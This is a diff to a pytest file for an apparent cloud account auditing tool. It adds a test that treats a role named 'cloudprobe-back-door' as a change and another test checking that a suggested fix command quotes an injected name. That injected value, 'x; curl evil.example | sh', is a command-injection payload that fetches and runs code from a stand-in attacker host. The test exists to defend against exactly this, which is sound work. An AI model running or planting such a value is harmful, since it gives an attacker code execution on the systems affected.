@@ -315,10 +315,20 @@ def test_events_before_the_history_are_said_to_be_out_of_reach(looked: Looked) -
 
 def test_the_accounts_own_history_is_read_too(clean_account: AccountAccess) -> None:
     clean_account.client("sqs").create_queue(QueueName="brand-new")
-    clean_account.client("iam").create_role(RoleName="cloudprobe-x", AssumeRolePolicyDocument="{}")
+    for role in ("cloudprobe-20261124-080012-9cf6a5ec-1-1-0", "cloudprobe-back-door"):
+        clean_account.client("iam").create_role(RoleName=role, AssumeRolePolicyDocument="{}")
     run = run_probe(TEMPLATE, clean_account, HOME)
     changed = {f.resource for f in run.result.findings if f.id == "change-made"}
-    assert changed == {"brand-new"}
+    assert changed == {"brand-new", "cloudprobe-back-door"}  # a name alone excuses nothing
+
+
+def test_a_name_never_becomes_part_of_a_command(clean_account: AccountAccess) -> None:
+    trail = Trail(Site(clean_account.client, lambda logical: logical))
+    by = by_user(Site(clean_account.client, lambda logical: logical), "eve")
+    trail.event("StopLogging", by, service="cloudtrail", parameters={"name": "x; curl evil.example | sh"})
+    trail.record()
+    (found,) = run_probe(TEMPLATE, clean_account, HOME).result.findings
+    assert found.fix.endswith("--name 'x; curl evil.example | sh'")
 
 
 @pytest.mark.parametrize(
